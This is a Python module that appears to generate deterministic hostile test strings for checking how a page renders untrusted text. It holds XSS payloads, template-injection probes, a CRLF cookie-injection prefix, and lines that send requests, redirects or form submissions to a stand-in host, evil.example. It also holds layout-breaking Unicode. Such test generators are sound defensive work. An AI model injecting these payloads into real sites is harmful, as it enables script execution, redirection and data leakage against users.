"""Texts that attack a page, as a family: what would run, what it would break out of, and disguises."""

from __future__ import annotations

import random
from collections.abc import Iterator

CALL = "window.pwned=1"
_RUNS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}><title>x",
    f"<details open ontoggle={CALL}>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f"<a href=javascript:{CALL} autofocus onfocus={CALL}>look</a>",
    f'<div hx-get="https://evil.example/" hx-trigger="load" hx-on::load="{CALL}">x</div>',
    '<div data-live="https://evil.example/"></div>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>*{display:none!important}</style>",
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><button>Save</button>',
    '<img src="https://evil.example/pixel.png">',
    "![x](https://evil.example/pixel.png)",
    "{{ 7*7 }}{% for x in ().__class__.__mro__ %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    f"javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    '{"q":"x"}\' hx-vals=\'js:{a:window.pwned=1}',
)
_BREAKS_OUT = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea>{}",
    "</title>{}",
    "</script>{}",
    "</pre></code>{}",
    "</svg>{}",
    "--><!-- {}",
    "]]>{}",
    '\\"}});{}//',
    "\r\nSet-Cookie: a=b\r\n\r\n{}",
    "&lt;{}&gt;",
    "\x00{}",
)
_LAYOUT = (
    "W" * 3_000,
    "ﷺ" * 400,
    "a" + "\u0301" * 2_000,
    "H" + "\u0336\u0489\u20dd" * 300 + "i",
    "\u202eesrever\u202c " * 50,
    "\u2066\u2067\u2068" * 100 + "no end",
    "\n" * 400 + "below",
    "\u200b\u2060\ufeff" * 300,
    "\U000e0041\U000e0042\U000e0043" * 100,
    "👨‍👩‍👧‍👦" * 200,
    "\u3164\u115f" * 200,
    "עברית و العربية " * 40,
    "𒐫" * 200 + "﷽" * 100,
    "\t" * 300 + "x",
    "\u2028\u2029" * 100,
    "x" * 200 + "\u00ad" * 500,
)


def texts(count: int = 200, seed: int = 25) -> Iterator[str]:
    """Return so many texts, the same ones each time."""
    chosen = random.Random(seed)
    given = [*_LAYOUT, *_RUNS]
    while len(given) < count:
        text = chosen.choice(_BREAKS_OUT).format(chosen.choice(_RUNS))
        disguise = chosen.choice((str, str.upper, lambda each: each.replace("<", "＜", 1), lambda each: each * 3))
        spot = chosen.randrange(len(text))
        given.append(f"{disguise(text)}{chosen.choice(('', text[spot:], chr(0x202E)))}")
    for number, text in enumerate(given[:count]):
        yield f"note {number} {text}".replace("\x00", "")
